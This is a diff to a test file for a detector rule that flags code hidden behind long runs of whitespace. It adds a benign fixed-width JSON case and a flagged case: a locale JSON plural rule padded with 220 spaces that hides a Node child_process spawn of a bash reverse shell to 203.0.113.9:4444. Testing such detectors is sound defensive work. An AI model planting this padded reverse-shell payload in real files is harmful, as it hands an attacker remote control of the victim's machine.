@@ -14,6 +14,11 @@ const minified =
 
 ruleTest(rule, {
   clean: [
+    {
+      name: 'a JSON string value padded with spaces before more words (a fixed-width report line)',
+      file: 'fixtures/report.json',
+      code: `{\n  "line": "Total${' '.repeat(180)}42 items shipped"\n}\n`,
+    },
     { file: 'tailwind.config.js', code: 'module.exports = { content: ["./src/**/*.tsx"] };\n' },
     { name: 'aligned comment table', file: 'README.md', code: `| a |${' '.repeat(200)}|\n` },
     { name: 'trailing blanks only', file: 'x.js', code: `const a = 1;${' '.repeat(400)}\n` },
@@ -37,6 +42,12 @@ ruleTest(rule, {
     { name: 'fixed-width data after padding', file: 'data.txt', code: `id${' '.repeat(160)}12345 67890\n` },
   ],
   flagged: [
+    {
+      name: 'a JSON string value (a plural rule later given to new Function) with code padded off-screen',
+      file: 'locales/uk.json',
+      code: `{\n  "_plural": "n % 10 == 1 ? 0 : 1${' '.repeat(220)}+(process.mainModule.require('child_process').spawn('/bin/bash',['-c','bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),0)",\n  "greeting": "Hi"\n}\n`,
+      findings: [{ line: 2, message: /Code hidden after 220 spaces/ }],
+    },
     {
       file: 'tailwind.config.js',
       code: `module.exports = { content: [] };${pad}${loader}\n`,
